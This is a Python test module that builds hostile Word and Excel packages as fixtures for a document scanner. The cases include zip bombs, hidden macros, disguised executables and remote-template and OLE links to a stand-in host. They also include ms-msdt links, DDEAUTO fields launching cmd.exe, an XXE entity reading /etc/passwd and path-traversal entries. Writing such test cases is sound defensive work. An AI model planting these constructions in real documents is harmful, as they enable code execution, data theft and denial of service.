"""Word and Excel files that swell, carry programs, reach out or are broken."""

from functools import partial

from tests.documents import parts
from tests.documents.hostile.cases import cases
from tests.documents.parts import EXCEL, WORD, a_package, relation, zeros, zipped


def office(name, kind=WORD, **what):
    return name, partial(a_package, kind, **what)


def office_bombs():
    big = ("word/a.xml", zeros(40_000_000))
    yield from cases(
        "a package that swells",
        "office_swells",
        ("one part of a Word", *office("carta.docx", members=[big])),
        (
            "one part of an Excel",
            *office("presupuesto.xlsx", EXCEL, members=[("xl/a.xml", zeros(40_000_000))]),
        ),
        ("many parts", *office("carta.docx", members=[(f"word/{n}.xml", b"") for n in range(5001)])),
        ("a size beyond all", "carta.docx", partial(parts.package_that_says, 300_000_000)),
        (
            "parts that lie over one another",
            "carta.docx",
            parts.package_of_overlapping_parts,
            "office_swells",
            "office_damaged",
        ),
        ("packages in packages", "carta.docx", partial(parts.nested_packages, 5)),
        (
            "a bomb in a package",
            *office("carta.docx", members=[("word/embeddings/a.docx", a_package(WORD, members=[big]))]),
        ),
        ("a list of parts that swells", "carta.docx", parts.package_with_huge_list),
        (
            "a part smaller than it is",
            "carta.docx",
            parts.package_that_hides_its_size,
            "office_swells",
            "office_damaged",
        ),
    )


def office_programs():
    def wide(words):
        return parts.OLE + zeros(600) + words.encode("utf-16-le")

    with_macros = a_package(WORD, members=[("word/vbaProject.bin", b"x")])
    yield from cases(
        "a package with programs",
        "office_programs",
        ("macros of Word", *office("carta.docx", members=[("word/vbaProject.bin", b"x")])),
        ("macros of Excel", *office("presupuesto.xlsx", EXCEL, members=[("xl/vbaProject.bin", b"x")])),
        (
            "macros under another name",
            *office("carta.docx", members=[("word/media/a.bin", wide("_VBA_PROJECT"))]),
        ),
        (
            "a .docm renamed",
            "carta.docx",
            partial(a_package, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        (
            "an .xlsm renamed",
            "presupuesto.xlsx",
            partial(a_package, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ),
        (
            "macros of Excel 4",
            *office("presupuesto.xlsx", EXCEL, members=[("xl/macrosheets/sheet1.xml", b"<a/>")]),
        ),
        ("ActiveX", *office("carta.docx", members=[("word/activeX/activeX1.xml", b"<a/>")])),
        ("a program", *office("carta.docx", members=[("word/embeddings/a.exe", b"x")])),
        (
            "a program named as an image",
            *office("carta.docx", members=[("word/media/image1.png", b"MZ\x90\x00")]),
        ),
        ("a program named as XML", *office("carta.docx", members=[("customXml/a.xml", b"\x7fELF")])),
        ("a script", *office("carta.docx", members=[("word/a.js", b"alert(1)")])),
        ("a page", *office("carta.docx", members=[("word/afchunk.html", b"<script>")])),
        (
            "a packed object",
            *office("carta.docx", members=[("word/embeddings/oleObject1.bin", wide("\x01Ole10Native"))]),
        ),
        ("a ZIP", *office("carta.docx", members=[("word/embeddings/a.bin", zipped([("a.exe", b"MZ")]))])),
        (
            "a Word with macros inside a Word",
            *office("carta.docx", members=[("word/embeddings/a.docx", with_macros)]),
        ),
    )


def office_reaches():
    def word(kind, target):
        return office(
            "carta.docx",
            parts={"word/_rels/document.xml.rels": parts.relations(relation(kind, target, external=True))},
        )

    def field_of(xml):
        return office("carta.docx", body=xml)

    linked = relation("externalLinkPath", "https://malo.example/a.xlsx", external=True)
    book = {"xl/externalLinks/_rels/externalLink1.xml.rels": parts.relations(linked)}
    sheet = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    run, mark = "<w:r><w:instrText>{}</w:instrText></w:r>", '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    yield from cases(
        "a package that reaches out",
        "office_reaches",
        ("a template from an address", *word("attachedTemplate", "https://malo.example/a.dotm")),
        ("a template of another machine", *word("attachedTemplate", "\\\\malo.example\\a.dotm")),
        ("a template named as a file", *word("attachedTemplate", "file:///\\\\malo.example\\a.dotm")),
        ("a template of a machine named as a file", *word("attachedTemplate", "file://malo.example/a.dotm")),
        ("an object from an address", *word("oleObject", "http://malo.example/a.html!")),
        ("an object by another protocol", *word("oleObject", "mhtml:http://malo.example/a!x-usc:http://b")),
        ("an image from an address", *word("image", "http://malo.example/seguimiento.png")),
        ("a frame from an address", *word("frame", "http://malo.example/a.rtf")),
        ("a document inside from an address", *word("subDocument", "ftp://malo.example/a.docx")),
        ("a link that is a script", *word("hyperlink", "javascript:alert(1)")),
        ("a link that is a page", *word("hyperlink", "data:text/html,<script>alert(1)</script>")),
        ("a link that starts a program", *word("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        (
            "a field that starts a program",
            *field_of(mark + run.format('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
        ),
        ("such a field in pieces", *field_of(mark + run.format("DDE") + run.format("AUTO c:\\\\cmd.exe"))),
        (
            "such a field after another",
            *field_of(mark + run.format(" PAGE ") + mark + run.format(" dde c:\\\\cmd.exe")),
        ),
        ("such a field in one element", *field_of('<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe"/>')),
        ("a workbook from an address", *office("presupuesto.xlsx", EXCEL, parts=book)),
        (
            "a sheet that starts a program",
            *office("presupuesto.xlsx", EXCEL, members=[("xl/externalLinks/externalLink1.xml", sheet)]),
        ),
    )


def office_xml():
    dtd = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    wide = dtd.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
    outside = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield from cases(
        "a package with entities",
        "office_doctype",
        ("in the text", *office("carta.docx", main=dtd)),
        ("from outside, in the text", *office("carta.docx", main=outside)),
        ("that multiply", *office("carta.docx", main=parts.LAUGHS)),
        ("in the styles", *office("carta.docx", members=[("word/styles.xml", dtd)])),
        ("in the relations", *office("carta.docx", members=[("word/_rels/a.xml.rels", dtd)])),
        ("in two bytes a letter", *office("carta.docx", members=[("word/styles.xml", wide)])),
        ("in a part named otherwise", *office("carta.docx", members=[("word/styles.dat", dtd)])),
        ("after a long comment", *office("carta.docx", main=f"<!--{'x' * 300_000}-->{dtd[21:]}")),
        ("of a sheet", *office("presupuesto.xlsx", EXCEL, members=[("xl/sharedStrings.xml", outside)])),
    )
    yield from cases(
        "a package with broken XML",
        "office_damaged",
        ("an unclosed element", *office("carta.docx", main="<a><b></a>")),
        ("no element", *office("carta.docx", members=[("word/styles.xml", b"")])),
        ("zeros", *office("carta.docx", members=[("word/styles.xml", zeros(90))])),
        ("text nested without end", *office("carta.docx", main="<a>" * 9000 + "</a>" * 9000), "office_deep"),
        (
            "sheet nested without end",
            *office("presupuesto.xlsx", EXCEL, main="<a>" * 9000 + "</a>" * 9000),
            "office_deep",
        ),
    )


def office_shapes():
    yield from cases(
        "a package whose parts lead out",
        "office_escapes",
        ("upwards", *office("carta.docx", members=[("../../etc/cron.d/x", b"x")])),
        ("upwards from within", *office("carta.docx", members=[("word/../../x", b"x")])),
        ("upwards as in Windows", *office("carta.docx", members=[("word\\..\\..\\x", b"x")])),
        ("from the root", *office("carta.docx", members=[("/etc/passwd", b"x")])),
        ("to a disk", *office("presupuesto.xlsx", EXCEL, members=[("C:\\Windows\\x", b"x")])),
    )
    yield from cases(
        "a package that is not whole",
        "office_damaged",
        ("two parts of one name", "carta.docx", partial(parts.a_package_with_twins)),
        (
            "no main part",
            "carta.docx",
            partial(zipped, parts.without(parts.own_parts(WORD), "word/document.xml")),
        ),
        ("no relations", "carta.docx", partial(zipped, parts.without(parts.own_parts(WORD), "_rels/.rels"))),
        ("a wrong sum", "carta.docx", parts.package_with_wrong_sum),
        ("an unknown packing", "carta.docx", parts.package_packed_otherwise),
        ("only its beginning", "carta.docx", b"PK\x03\x04" + zeros(400)),
        ("only its end", "carta.docx", b"PK\x05\x06" + zeros(18), "office_damaged", "not_accepted"),
    )


KINDS = [office_bombs, office_programs, office_reaches, office_xml, office_shapes]
